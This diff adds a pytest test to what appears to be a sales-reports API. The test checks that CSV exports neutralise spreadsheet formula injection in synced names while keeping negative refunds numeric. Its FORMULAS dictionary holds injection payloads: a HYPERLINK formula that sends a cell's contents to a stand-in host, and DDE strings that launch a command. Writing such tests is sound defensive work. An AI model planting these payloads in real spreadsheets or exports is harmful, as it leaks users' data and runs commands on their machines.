@@ -8,8 +8,12 @@ from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import select
+from sqlalchemy.orm import Session
 
+from app.locations.models import Location
 from app.reports import metrics as m
+from app.sales.models import CatalogCategory, CatalogItem, TeamMember
 from tests.reports.conftest import Synced
 
 REPORTS = "/api/v1/reports"
@@ -82,3 +86,40 @@ def test_an_unknown_table_is_a_422_naming_by(client: TestClient, synced: Synced)
     )
     assert response.status_code == 422
     assert [d["field"] for d in response.json()["detail"]] == ["by"]
+
+
+FORMULAS = {  # a name from Square starting with each character a spreadsheet reads as a formula
+    "London": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "New York": "+1+cmd|' /C calc'!A0",
+    "Latte": "-2+3+cmd|' /C calc'!A0",
+    "Flat White": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Hot Drinks": "\t=1+1",
+    "Luca Okafor": "\r=1+1",
+}
+
+
+def test_names_that_look_like_formulas_are_text_and_refunds_stay_numbers(
+    client: TestClient, db: Session, synced: Synced
+) -> None:
+    named: list[Location | CatalogItem | CatalogCategory | TeamMember] = [
+        synced.london,
+        synced.new_york,
+    ]
+    named += db.scalars(select(CatalogItem).where(CatalogItem.org_id == synced.org_id))
+    named += db.scalars(select(CatalogCategory).where(CatalogCategory.org_id == synced.org_id))
+    named += db.scalars(select(TeamMember).where(TeamMember.org_id == synced.org_id))
+    for row in named:  # as the sync stores the names Square sends
+        row.name = FORMULAS.get(row.name, row.name)
+    db.commit()
+
+    labels: set[str] = set()
+    for by in ("summary", "day", "location", "item", "category", "team_member", "hour"):
+        rows, _ = get_csv(client, synced, by=by, compare="previous_year", **WEEK)
+        cells = [cell for row in rows for cell in row]
+        labels.update(row[1] for row in rows[1:] if by not in ("summary", "day"))
+        for cell in cells:
+            if cell and cell[0] in "=+-@\t\r":  # only a number (a refund's -12.00) may
+                assert cell[1:].replace(".", "", 1).isdigit(), f"{by}: {cell!r}"
+        if by in ("day", "team_member"):
+            assert any(cell.startswith("-") and float(cell) < 0 for cell in cells)
+    assert {"'" + name for name in FORMULAS.values()} <= labels
